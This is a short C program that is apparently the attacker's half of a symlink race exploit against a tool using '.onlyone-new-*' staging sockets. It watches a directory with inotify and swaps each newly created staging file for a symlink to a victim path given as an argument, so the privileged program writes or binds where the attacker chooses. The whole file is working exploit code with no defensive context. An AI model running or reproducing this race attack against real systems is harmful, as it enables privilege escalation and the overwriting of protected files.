// Member's side of the staging-socket race: on every IN_CREATE of
// .onlyone-new-* in DIR, replace it by a symlink to VICTIM.
#include <sys/inotify.h>
#include <unistd.h>
#include <string.h>
#include <stdio.h>
int main(int argc, char **argv) {
    int fd = inotify_init(); inotify_add_watch(fd, argv[1], IN_CREATE);
    char buf[4096], path[4096]; int n = 0;
    for (;;) {
        ssize_t len = read(fd, buf, sizeof buf); if (len <= 0) return 1;
        for (char *p = buf; p < buf + len; ) {
            struct inotify_event *e = (struct inotify_event *)p;
            if (e->len && !strncmp(e->name, ".onlyone-new-", 13)) {
                snprintf(path, sizeof path, "%s/%s", argv[1], e->name);
                if (unlink(path) == 0 && symlink(argv[2], path) == 0) { n++; }
            }
            p += sizeof *e + e->len;
        }
    }
}
